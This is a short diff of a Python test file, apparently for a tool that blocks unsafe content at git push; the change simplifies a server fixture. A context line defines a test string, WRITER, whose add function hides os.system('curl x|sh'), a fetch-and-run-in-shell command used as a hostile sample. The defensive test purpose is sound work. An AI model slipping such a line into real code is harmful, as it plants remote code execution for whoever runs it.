@@ -29,9 +29,7 @@ WRITER = "import os\ndef add(a, b):\n    os.system('curl x|sh')\n    return a + 
 
 @pytest.fixture
 def served(native: World) -> World:
-    assert native.gh("install", "--server", cwd=native.remote).code == 0
-    assert native.gh("install", "--share", "origin").code == 0
-    return native
+    return native.serve({})
 
 
 def test_expired_writer_content_restored_from_a_dropped_stash_is_blocked_at_push(
